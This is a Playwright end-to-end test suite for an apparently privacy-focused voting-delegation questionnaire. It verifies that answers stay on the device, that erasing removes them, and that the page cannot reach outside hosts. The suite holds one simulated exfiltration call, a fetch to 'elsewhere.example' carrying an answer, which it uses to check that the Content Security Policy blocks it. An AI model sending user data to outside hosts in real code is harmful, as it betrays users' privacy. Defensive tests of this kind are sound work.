import type { Browser, BrowserContext, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, inject, test } from 'vitest'
import { delegateToFirstMatch } from './support/matching.ts'
import { openLocalChain } from './support/openLocalChain.ts'
import { openBrowser } from './support/openPage.ts'

/** However clear the matches are by then. */
const lastQuestion = /^(That is enough to go on|Not clear yet|There is nothing more to ask)$/
const chain = openLocalChain()

let browser: Browser

beforeAll(async () => {
  browser = await openBrowser()
})

afterAll(() => browser?.close())

describe('answers', () => {
  test('behavior: the whole questionnaire and a delegation, and no answer leaves the device', async () => {
    const first = await watch()
    const count = await answer(first.page, ['For', 'Against', 'For'])
    first.endMatching()
    await chain.takesBack(await chain.account(0))
    await delegateToFirstMatch(first.page)
    await readMyDelegation(first.page)
    await expect.poll(async () => (await storedBy(first.context)).answers).toHaveLength(count)
    const stored = await storedBy(first.context)
    expect(count).toBeGreaterThanOrEqual(5)

    const second = await watch()
    await answer(second.page, ['Against', 'Skip', 'Against', 'For'])
    second.endMatching()

    expect(second.whileMatching()).toEqual(first.whileMatching())
    const hosts = [inject('appUrl'), inject('graphqlUrl'), inject('rpcUrl')].map(origin)
    for (const { requests, logs, addresses } of [first, second]) {
      for (const item of stored.answers.map(({ item }) => item)) {
        // Asking for a decision by its id alone, or filing it beside a choice, would tell what was answered.
        const telling = new RegExp(`${item}[^\\d]{0,40}"?(for|against|skip)\\b`, 'i')
        for (const request of requests) expect(request).not.toMatch(telling)
        expect(addresses.join()).not.toContain(item)
      }
      for (const request of requests) expect(hosts).toContain(origin(request.split(' ')[1] ?? ''))
      expect(logs.join('\n')).not.toMatch(/answer|matters|"for"|"against"/i)
    }
    expect(stored.elsewhere).toEqual([])
    await first.context.close()
    await second.context.close()
  })

  test('behavior: erasing leaves nothing', async () => {
    const { page, context } = await watch()
    await answer(page, ['For'], 3)
    await expect.poll(async () => (await storedBy(context)).answers).toHaveLength(3)
    await page.getByRole('button', { name: 'Erase my answers' }).first().click()
    await page.getByRole('heading', { name: 'What matters to you?' }).waitFor()
    expect((await storedBy(context)).answers).toEqual([])
    await context.close()
  })

  test('behavior: the page may connect to its gateway and its chain, and to nobody else', async () => {
    const { page, context } = await watch()
    const outcome = await page.evaluate(
      () =>
        new Promise((resolve) => {
          addEventListener('securitypolicyviolation', (event) =>
            resolve({ directive: event.effectiveDirective, uri: event.blockedURI }),
          )
          fetch('https://elsewhere.example/?answer=for').then(
            () => resolve('reached'),
            () => undefined,
          )
        }),
    )
    expect(outcome).toMatchObject({ directive: 'connect-src' })
    await context.close()
  })
})

/** A browser of its own, of which everything that leaves it is written down: method, address and body. */
async function watch() {
  const context = await browser.newContext({
    baseURL: inject('appUrl'),
    viewport: { width: 1280, height: 900 },
  })
  const page = await context.newPage()
  page.setDefaultTimeout(60_000)
  const requests: string[] = []
  const logs: string[] = []
  const addresses: string[] = []
  let matching: readonly string[] = []
  context.on('request', (request) => {
    // The page's own worker starts from a blob, which is nowhere but in the browser.
    if (request.url().startsWith('blob:')) return
    requests.push(`${request.method()} ${request.url()} ${request.postData() ?? ''}`)
  })
  page.on('console', (message) => logs.push(message.text()))
  page.on('framenavigated', (frame) => addresses.push(frame.url()))
  await page.goto('/match')
  return {
    ...{ context, page, requests, logs, addresses },
    endMatching: () => {
      matching = requests.slice()
    },
    /**
     * In an order that timing does not change, and without the chain's clock and the name of the public model, which the
     * gateway learns anew whenever the record grows.
     */
    whileMatching: () =>
      [
        ...new Set(
          matching
            .filter((request) => !isClock(request))
            .map((request) => request.replace(/\/[0-9a-f]{32}\.bin/, '/model.bin')),
        ),
      ].sort(),
  }
}

/** Answers in turns, until nothing is left to ask or `most` are answered. @returns how many were */
async function answer(page: Page, answers: readonly string[], most = 12): Promise<number> {
  const end = page.getByRole('heading', { name: lastQuestion })
  await page.getByRole('button', { name: 'Start' }).click()
  for (let count = 0; count < most; count++) {
    const question = page.getByText(`Decision ${count + 1} of`)
    await question.or(end).first().waitFor()
    if (await end.isVisible()) return count
    const name = answers[count % answers.length] ?? 'Skip'
    await page.getByRole('button', { name, exact: true }).first().click()
  }
  await page
    .getByText(`Decision ${most + 1} of`)
    .or(end)
    .first()
    .waitFor()
  await page.waitForLoadState('networkidle')
  return most
}

/** Where each ballot stands beside the person's wishes. */
async function readMyDelegation(page: Page): Promise<void> {
  await page.goto('/delegation')
  await page.getByRole('heading', { level: 1, name: 'My delegation' }).waitFor()
  await page.waitForLoadState('networkidle')
}

/** The answers where they belong, and whatever else of the browser's stores holds one. */
async function storedBy(context: BrowserContext) {
  const { cookies, origins } = await context.storageState({ indexedDB: true })
  const entries = origins.flatMap(({ localStorage }) => localStorage)
  const kept = entries.find(({ name }) => name.startsWith('mandate:answers:'))
  const answers: { item: string }[] = kept === undefined ? [] : JSON.parse(kept.value).answers
  const rest = [
    ...cookies.map(({ value }) => value),
    ...entries.filter((entry) => entry !== kept).map(({ value }) => value),
    ...origins.map((one) => JSON.stringify({ ...one, localStorage: [] })),
  ]
  return {
    answers,
    elsewhere: rest.filter((text) => answers.some(({ item }) => text.includes(item))),
  }
}

function isClock(request: string): boolean {
  const isRead = /"method":"eth_(getBlockByNumber|blockNumber|chainId)"/.test(request)
  return isRead && request.includes(inject('rpcUrl'))
}

function origin(url: string): string {
  return new URL(url).origin
}
